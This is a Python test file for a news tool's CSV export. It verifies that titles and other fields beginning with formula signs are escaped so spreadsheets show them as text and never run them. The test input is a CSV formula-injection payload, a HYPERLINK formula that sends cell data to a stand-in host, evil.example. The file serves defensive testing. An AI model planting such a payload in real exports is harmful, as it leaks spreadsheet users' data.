"""E6: a title begins with what a spreadsheet takes for a formula. It is shown, never run, and none of it is lost."""

from __future__ import annotations

import csv
from io import StringIO
from itertools import product
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsbot.cli.export_file import COLUMNS, csv_head, csv_row
from newsbot.cli.output import csv_line, safe_cell

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "  ", "\u00a0", "\ufeff", "\u200b", "\x00", "\t", '"', "'", "\u2028", "\x1f", "«")
FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"open")'
_STARTS = set("=+-@＝＋－＠")


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would: Excel and LibreOffice pass over blanks and signs that they do not show."""
    shown = "".join(sign for sign in cell if sign.isprintable() and not sign.isspace())
    return shown[:1] in _STARTS or cell[:1] in {"\t", "\r", "\n"}


@pytest.mark.parametrize(("before", "sign"), list(product(BEFORE, SIGNS)))
def test_e6_no_title_is_run(before: str, sign: str) -> None:
    """Whatever stands before the sign that a spreadsheet passes over; after a quote it is text already."""
    title = f"{before}{sign}{FORMULA}"
    (row,) = csv.reader(StringIO(csv_line([title, "x"]), newline=""))
    assert not _runs(row[0])
    assert row == [safe_cell(title), "x"]
    assert row[0].removeprefix("'") == title.replace("\0", "").removeprefix("'")


def test_e6_an_exported_record_runs_in_none_of_its_cells() -> None:
    """All of them come from pages: the source's name, sections and tags too."""
    record: dict[str, Any] = {name.removesuffix("_json"): f"={FORMULA}" for name in COLUMNS}
    record |= {"authors": [{"name": f"@{FORMULA}"}], "tags": [f"+{FORMULA}"], "entries": []}
    record["flags"] = [{"watch": f"-{FORMULA}", "dismissed_at": None}]
    record["body"] = [{"kind": "paragraph", "text": f"\t={FORMULA}"}]
    rows = list(csv.reader(StringIO((csv_head() + csv_row(record)).decode(), newline="")))
    assert rows[0] == list(COLUMNS)
    assert [cell for cell in rows[1] if _runs(cell)] == []


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0'")), min_size=1, max_size=6))
def test_e6_the_text_comes_back_exactly(texts: list[str]) -> None:
    """Without the apostrophe that guards a cell: nothing else is added, and nothing taken away."""
    (row,) = csv.reader(StringIO(csv_line(texts), newline=""))
    assert [cell.removeprefix("'") for cell in row] == texts
    assert not any(map(_runs, row))
